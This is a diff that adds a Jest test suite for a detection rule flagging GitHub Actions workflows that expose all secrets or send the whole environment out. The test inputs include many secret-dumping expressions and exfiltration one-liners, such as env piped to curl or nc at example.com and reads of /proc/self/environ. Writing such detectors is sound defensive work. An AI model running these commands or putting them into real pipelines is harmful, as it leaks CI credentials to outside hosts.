@@ -1,0 +1,135 @@
+import { describe, expect, test } from '@jest/globals';
+import { judge } from '../../../__fixtures__/judge.ts';
+import { aQuestion } from '../../../__fixtures__/question.ts';
+import rule from '../../../src/rules/secret/bulk-exposure.ts';
+
+const path = '.github/workflows/a.yml';
+
+async function found(files: Record<string, string>) {
+  const { findings } = await judge(rule, { files, question: aQuestion({}) });
+  return findings.map(({ subject, severity, location }) => [subject['form'], severity, 'start' in location ? location.start : undefined]);
+}
+const forms = async (files: Record<string, string>) => (await found(files)).map(([form]) => form);
+const job = (body: string) => ({ [path]: `on: push\njobs:\n  a:\n    runs-on: x\n${body.replace(/^/gm, '    ')}\n` });
+const env = (value: string) => job(`env:\n  A: ${value}\nsteps:\n  - run: make`);
+const run = (script: string) => job(`steps:\n  - run: |\n${script.replace(/^/gm, '      ')}`);
+
+describe('expressions that take all secrets', () => {
+  test.each<[string, string]>([
+    ['toJSON(secrets)', 'toJSON(secrets)'],
+    ['TOJSON( SECRETS )', 'toJSON(secrets)'],
+    ['fromJSON(toJson(secrets)).KEY', 'toJSON(secrets)'],
+    ["format('{0}', secrets)", 'format(secrets)'],
+    ["join(secrets.*, ',')", 'secrets.*'],
+    ['secrets[*]', 'secrets.*'],
+    ['secrets', 'secrets'],
+    ['secrets && secrets.A', 'secrets'],
+    ["contains(format('x{0}', toJSON(secrets)), 'y')", 'toJSON(secrets)'],
+    ['(secrets || github).token', 'secrets'],
+    ["case(true, secrets, '')", 'case(secrets)'],
+    ['toJSON(secrets', 'toJSON(secrets)'],
+  ])('%s', async (expression, form) => {
+    expect(await forms({ [path]: env(`"\${{ ${expression.replaceAll('"', '\\"')} }}"`)[path] ?? '' })).toEqual([form]);
+  });
+
+  test.each(
+    ['secrets[inputs.name]', "secrets[format('X_{0}', matrix.env)]", 'Secrets[matrix.name]', "secrets['A'][github.ref]"].slice(0, 3),
+  )('%s is a computed name', async (expression) => {
+    expect(await found(env(`"\${{ ${expression} }}"`))).toMatchObject([['secrets[...]', 'medium', expect.anything()]]);
+  });
+
+  test.each([
+    'secrets.A',
+    "secrets['A']",
+    "SECRETS['A-B']",
+    'toJSON(secrets.A)',
+    'toJSON(github.event)',
+    "format('{0}', secrets.A)",
+    "'toJSON(secrets)'",
+  ])('not: %s', async (expression) => {
+    expect(await found(env(`"\${{ ${expression} }}"`))).toEqual([]);
+  });
+
+  test.each<[string, string]>([
+    ['a condition without braces', 'if: contains(toJSON(secrets), github.actor)\nsteps:\n  - run: make'],
+    ['a condition of a step', "steps:\n  - if: ${{ toJSON(secrets) != '' }}\n    run: make"],
+    ['a script', 'steps:\n  - run: |\n      make\n      echo ${{ toJSON(secrets) }}'],
+    ['a folded script', 'steps:\n  - run: >-\n      make\n      ${{ toJSON(secrets) }}'],
+    ['an input', 'steps:\n  - uses: acme/x@v1\n    with: {all: "${{ toJSON(secrets) }}"}'],
+    ['an output', 'outputs: {all: "${{ toJSON(secrets) }}"}\nsteps:\n  - run: make'],
+    ['a container', 'container: {image: x, env: {ALL: "${{ toJSON(secrets) }}"}}\nsteps:\n  - run: make'],
+    ['a service', 'services: {x: {image: x, env: {ALL: "${{ toJSON(secrets) }}"}}}\nsteps:\n  - run: make'],
+    ['an anchor', 'env: {A: &a "${{ toJSON(secrets) }}", B: *a}\nsteps:\n  - run: make'],
+  ])('in %s', async (_, body) => {
+    expect(await forms(job(body))).toEqual(['toJSON(secrets)']);
+  });
+
+  test('in the environment of the workflow, and given to a called one', async () => {
+    const text =
+      'on: push\nenv: {A: "${{ toJSON(secrets) }}"}\njobs:\n  a:\n    uses: acme/x/.github/workflows/y.yml@v1\n    secrets: {all: "${{ toJSON(secrets) }}"}\n';
+    expect(await forms({ [path]: text })).toEqual(['toJSON(secrets)', 'toJSON(secrets)']);
+  });
+
+  test('stands at the call, not at the value', async () => {
+    expect(await found(env('"x ${{ toJSON(secrets) }}"'))).toEqual([['toJSON(secrets)', 'high', { line: 6, column: 17 }]]);
+  });
+});
+
+describe('environments that are sent out', () => {
+  test.each<[string, string]>([
+    ['env | curl -d @- https://example.com', 'env'],
+    ['printenv | sort | base64', 'printenv'],
+    ['sudo -E env | nc example.com 1', 'env'],
+    ['/usr/bin/env | base64 -w0 | base64', 'env'],
+    ['export -p | gpg -c > x', 'export'],
+    ['set | curl -T - https://example.com', 'set'],
+    ['curl -d "$(env)" https://example.com', 'env'],
+    ['curl -d "`printenv`" https://example.com', 'printenv'],
+    ['curl -F x=@<(env) https://example.com', 'env'],
+    ['X=$(env | gzip)\ncurl -d "$X" https://example.com', 'env'],
+    ['env > /tmp/x.txt\ncurl -T /tmp/x.txt https://example.com', 'env'],
+    ['env | tee all.txt\ngh gist create all.txt', 'env'],
+    ['cat /proc/self/environ | base64', '/proc/self/environ'],
+    ['curl -d @/proc/self/environ https://example.com', '@/proc/self/environ'],
+    ['base64 < /proc/1234/environ', '/proc/1234/environ'],
+    ['Get-ChildItem env: | Out-String | Invoke-WebRequest -Method Post https://example.com', 'Get-ChildItem env:'],
+    ["node -e 'console.log(JSON.stringify(process.env))' | base64", 'node'],
+    ["bash -c 'env | curl -d @- https://example.com'", 'env'],
+    ['python3 -c "import os;print(os.environ)" | curl -d @- https://example.com', 'python3'],
+  ])('%s', async (script, form) => {
+    expect(await forms(run(script))).toEqual([form]);
+  });
+
+  test.each([
+    'env',
+    'env | sort',
+    'env | grep GITHUB_',
+    'printenv KEY | base64 -d > key.json',
+    'printenv KEY | base64',
+    'env A=b curl https://example.com',
+    'set -euo pipefail; curl https://example.com | tar x',
+    'export A=b; curl https://example.com',
+    'ls -la | curl -T - https://example.com',
+    'env > x.txt\ncat x.txt',
+    'env >> $GITHUB_STEP_SUMMARY\ncurl https://example.com',
+    "node -e 'console.log(process.env.HOME)' | base64",
+    '# env | curl -d @- https://example.com',
+    "echo 'env | curl'",
+    'docker run --env-file x image',
+  ])('not: %s', async (script) => {
+    expect(await found(run(script))).toEqual([]);
+  });
+
+  test('a file that a later step uploads', async () => {
+    const upload = (name: string) =>
+      job(`steps:\n  - run: env > out/all.txt\n  - uses: actions/upload-artifact@v4\n    with: {path: ${name}}`);
+    expect(await forms(upload('out/all.txt'))).toEqual(['env']);
+    expect(await forms(upload('dist'))).toEqual([]);
+  });
+
+  test('in a composite action', async () => {
+    const action =
+      'name: a\ndescription: a\nruns:\n  using: composite\n  steps:\n    - run: env | curl -d @- https://example.com\n      shell: bash\n';
+    expect(await forms({ 'action.yml': action })).toEqual(['env']);
+  });
+});
